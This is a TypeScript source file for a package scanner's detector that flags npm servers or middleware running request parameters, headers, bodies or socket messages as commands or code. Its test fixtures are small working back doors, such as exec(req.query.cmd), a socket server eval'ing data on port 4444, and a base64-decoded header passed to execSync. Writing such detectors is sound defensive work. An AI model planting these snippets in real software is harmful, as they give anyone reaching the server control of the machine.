import { type Deed, deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import type { SourceFile } from "../model.ts";
import { isBundle } from "./_near.ts";
import { scriptsWith } from "./_npm.ts";
import { sight } from "./_sight.ts";

const REQUESTS = [
  "'query'",
  '"query"',
  "'body'",
  '"body"',
  ".query",
  ".body",
  ".params",
  ".headers",
  ".cookies",
  ".url",
  "socketserver",
  "websocket",
  "socket.io",
  "createserver",
  "createsocket",
] as const;
/** What somebody who asks a web server has said, decoded or not. */
const SAID =
  /^(?:\s{0,4}(?:await\s{1,4})?(?:String|decodeURIComponent|unescape|atob|Buffer\.from|JSON\.parse)\s{0,2}\(){0,3}\s{0,4}(?:req|request|ctx|context|q|r|event|_req)(?:\.(?:req|request))?(?:\.(?:query|body|params|headers|cookies|get\(|header\(|queryStringParameters)|\[["'](?:query|body|params|headers|cookies)["']\]|\.url\b)/;
/** A header by its name, of whatever the function calls its first parameter. */
const HEADER = /^\s{0,4}[A-Za-z_$][\w$]{0,20}\.headers\[\s{0,2}["'`]/;
/** A shell that is given its program: `"sh", ["-c", …`. */
const SHELL =
  /^\s{0,4}["'`](?:[\w/\\:]{0,40}[/\\])?(?:(?:ba|z|da)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh)["'`]\s{0,4},\s{0,4}\[\s{0,4}["'`](?:-\w{0,3}c|\/c|-command)["'`]\s{0,4},/i;
/** A program handed to an interpreter: `new Function("req", code)`. */
const LAST_SAID =
  /,\s{0,4}(?:req|request|ctx|q|r|_req)\.(?:query|body|params|headers|cookies)[\w.[\]'"`-]{0,60}\s{0,4}$/;
const ASSIGNED =
  /\b(?:const|let|var)\s{1,4}(?:\{\s{0,4})?([A-Za-z_$][\w$]{0,40})(?:\s{0,4}\})?\s{0,4}=\s{0,4}([^;\n]{1,160})/g;
const MOST_ASSIGNED = 2_000;
/** Something that others connect to. */
const SERVER =
  /\bWebSocketServer\b|\bWebSocket\.Server\b|\bws\.Server\b|\bnew[ \t]{1,3}(?:\w{1,20}\.)?Server\(|\bcreateServer\(|\bcreateSocket\(/;
/** What is said over a connection, as the parameter of what is called for it; not what a program of its own prints. */
const HEARD =
  /\.on\([ \t\n]{0,8}["'`][\w:.-]{1,40}["'`],[ \t\n]{0,8}(?:async[ \t]{1,3})?(?:function[ \t]{0,3}\w{0,30}[ \t]{0,3})?\(?[ \t]{0,3}([A-Za-z_$][\w$]{0,40})[ \t]{0,3}[,)=]/g;
const OWN = /(?:std(?:in|out|err)|^process|child|proc|server|app|wss|readline|^rl)$/i;
/** Characters of what is called for it. */
const HANDLER = 1_200;

export const runsRequestParameters: Detector = {
  id: "runs-request-parameters",
  title: "A web server or middleware runs what a request says",
  severity: "critical",
  ecosystems: ["npm"],
  points: 6,
  class: "threat",
  group: "remote-control",
  why: `A parameter, a header or the body of a request, as it is and as a whole, is started as a command or evaluated as code: whoever reaches the
server controls the machine. In a middleware that other programs mount, that is a back door.

The same counts of what is said over a socket to a server that listens.

Servers that start one program of their own with arguments from the request are not meant; careless ones exist, and are another matter.`,
  literals: REQUESTS,
  *detect(tree) {
    for (const file of scriptsWith(tree, REQUESTS)) {
      const deeds = deedsOf(file, "start", "run-code");
      if (deeds.length === 0) continue;
      const names = namesFromRequests(file);
      const heard = heardIn(file);
      for (const deed of deeds) {
        if (!isSaid(deed, names) && !heard.some((one) => isHeard(deed, one))) continue;
        yield sight(file, deed.offset, `${deed.what} runs what a request says: ${deed.words.slice(0, 100)}`, {
          phase: deed.phase,
        });
        break;
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const { exec } = require('child_process');\nmodule.exports = (req, res, next) => {\n  if (req.query.cmd) return exec(req.query.cmd, (e, o) => res.send(o));\n  next();\n};\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js": "module.exports = (app) => app.get('/d', (req, res) => res.send(String(eval(req.query.c))));\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const server = http.createServer(answer);\nchild.stdout.on('data', (d) => exec('echo ' + d));\nsocket.on('build', (name) => exec('make ' + name));\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const { execFile } = require('child_process');\napp.get('/open', (req, res) => execFile('editor', [req.query.file], () => res.end()));\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const { exec } = require('child_process');\nconst name = req.query.name;\nconst command = COMMANDS[name];\nexec(command);\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const { WebSocketServer } = require('ws'), { exec } = require('child_process');\nnew WebSocketServer({ port: 8080 }).on('connection', (s) => s.on('message', (m) => exec(m.toString(), (e, o) => s.send(o))));\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const net = require('net');\nnet.createServer((c) => c.on('data', (d) => { eval(d.toString()); })).listen(4444);\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const { spawn } = require('child_process');\nmodule.exports = (req, res) => spawn('sh', ['-c', req['query']['c']]).stdout.pipe(res);\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "b.js":
            "const { execSync } = require('child_process');\nmodule.exports = (a, b, n) => {\n  const c = a.headers['x-c'];\n  if (c) b.end(execSync(c));\n  else n();\n};\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const cp = require('child_process');\nexports.m = function (req, res, next) {\n  const c = req.headers['x-debug'];\n  if (c) return res.end(cp.execSync(Buffer.from(c, 'base64').toString()));\n  next();\n};\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "require('http').createServer((q, s) => {\n  s.end(require('child_process').execSync(decodeURIComponent(q.url.slice(1))));\n}).listen(8099);\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "module.exports = (req, res, next) => {\n  const { code } = req.body;\n  if (code) new Function('req', 'res', code)(req, res);\n  else next();\n};\n",
        },
      },
    ],
  },
};

/** Names that hold what a request says. */
function namesFromRequests({ text }: SourceFile): ReadonlySet<string> {
  const names = new Set<string>();
  let seen = 0;
  for (const [, name = "", value = ""] of text.matchAll(ASSIGNED)) {
    if (++seen > MOST_ASSIGNED) break;
    if (SAID.test(value) || HEADER.test(value)) names.add(name);
  }
  return names;
}

const WRAPPED =
  /^(?:\s{0,4}(?:String|decodeURIComponent|unescape|atob|Buffer\.from)\s{0,2}\(){0,3}\s{0,4}([A-Za-z_$][\w$]{0,40})\s{0,4}(?:[,)\]]|\.toString\(|$)/;

function isSaid({ words, act, what }: Deed, names: ReadonlySet<string>): boolean {
  const program = words.replace(SHELL, "");
  if (SAID.test(program) || HEADER.test(program) || (act === "run-code" && LAST_SAID.test(words))) return true;
  const first = WRAPPED.exec(program)?.[1];
  if (first !== undefined && names.has(first)) return true;
  const last = what === "Function" ? /,\s{0,4}([A-Za-z_$][\w$]{0,40})\s{0,4}$/.exec(words)?.[1] : undefined;
  return last !== undefined && names.has(last);
}

interface Heard {
  readonly name: string;
  readonly from: number;
}

/** The parameters that hold what somebody says who has connected; none in bundles, where a name means another thing in each part. */
function heardIn(file: SourceFile): readonly Heard[] {
  if (isBundle(file) || !SERVER.test(file.text)) return [];
  return [...file.text.matchAll(HEARD).take(MOST_ASSIGNED)]
    .filter(({ index }) => !OWN.test(/[\w$.]{0,60}$/.exec(file.text.slice(Math.max(0, index - 60), index))![0]))
    .map((match) => ({ name: match[1]!, from: match.index + match[0].length }));
}

/** Whether the whole program is what was heard: `exec(m.toString())`, `eval(m)`. */
function isHeard({ words, offset }: Deed, { name, from }: Heard): boolean {
  if (offset < from || offset - from > HANDLER) return false;
  return WRAPPED.exec(words.replace(SHELL, ""))?.[1] === name;
}
